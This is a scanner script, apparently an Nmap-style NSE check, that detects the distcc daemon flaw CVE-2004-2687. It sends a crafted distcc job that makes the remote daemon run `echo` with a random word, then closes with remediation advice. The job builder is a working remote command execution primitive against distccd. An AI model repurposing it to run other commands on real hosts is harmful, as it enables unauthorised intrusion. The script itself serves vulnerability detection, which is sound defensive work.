description = [[
Finds distcc daemons that run any program for anyone (CVE-2004-2687): those that take jobs from every
address and do not look at what the "compiler" is. The job that is sent runs `echo` with a random word.
]]
---
-- @output
-- | distcc-cve2004-2687:
-- |   VULNERABLE:
-- |   distccd runs commands for anyone
-- |     State: VULNERABLE (Exploitable)
-- |     ...
-- |_    Risk factor: High

author = "Muster"
license = "Apache-2.0"
categories = { "exploit", "intrusive", "vuln" }

identity = {}
volatile = {}
finding = "critical"

local asker = require "asker"
local comm = require "comm"
local match = require "match"
local rand = require "rand"
local shortport = require "shortport"
local vulns = require "vulns"

portrule = shortport.port_or_service(3632, "distccd")

local output_max = 65536

-- A job of protocol 1 (doc/protocol-1.txt of distcc): a command line and an empty source. Only what looks
-- like the call of a compiler is taken, so file names follow the word.
local function job(word)
  local arguments = { "echo", word, "-c", "main.c", "-o", "main.o" }
  local out = { ("DIST%08xARGC%08x"):format(1, #arguments) }
  for _, argument in ipairs(arguments) do
    out[#out + 1] = ("ARGV%08x%s"):format(#argument, argument)
  end
  return table.concat(out) .. ("DOTI%08x"):format(0)
end

-- The next packet of an answer: its number, for texts the text; nil when it is another, and then why
-- there is none.
local function packet(socket, token, has_text)
  local status, head = socket:receive_buf(match.numbytes(12), true)
  if not status then
    return nil, head
  end
  local number = tonumber(head:match("^" .. token .. "(%x%x%x%x%x%x%x%x)$") or "", 16)
  if not number or not has_text or number == 0 then
    return number, ""
  elseif number > output_max then
    return nil
  end
  local text
  status, text = socket:receive_buf(match.numbytes(number), true)
  return status and number or nil, text
end

-- Did the daemon answer, and what did the job print?  Whom it does not serve it ends the connection.
local function run(host, port, word)
  local socket, reason = comm.opencon(host, port, nil,
    { connect_only = true, proto = "tcp", timeout = 8000 })
  if not socket then
    return nil, reason
  end
  socket:send(job(word))
  local version, why = packet(socket, "DONE")
  local status, printed, _
  if version then
    status = packet(socket, "STAT")
  elseif why == "TIMEOUT" then
    socket:close()
    return nil, why
  end
  if status and packet(socket, "SERR", true) then
    _, printed = packet(socket, "SOUT", true)
  end
  socket:close()
  return version ~= nil, printed or ""
end

function action(host, port)
  local word = "muster-" .. rand.random_alpha(16)
  local answered, printed = run(host, port, word)
  if answered == nil then
    return asker.unanswered(port, { "distccd" }, printed)
  end
  local vuln = {
    title = "distccd runs commands for anyone",
    state = printed:find(word, 1, true) and vulns.STATE.EXPLOIT or vulns.STATE.NOT_VULN,
    risk_factor = "High", IDS = { CVE = "CVE-2004-2687" },
    description = [[
The daemon takes jobs from every address and runs whatever program they name. Let it take jobs of
known addresses only (--allow), and only known compilers (without --enable-tcp-insecure).]],
    references = { "https://www.distcc.org/security.html" },
  }
  return vulns.Report:new(SCRIPT_NAME, host, port):make_output(vuln)
end
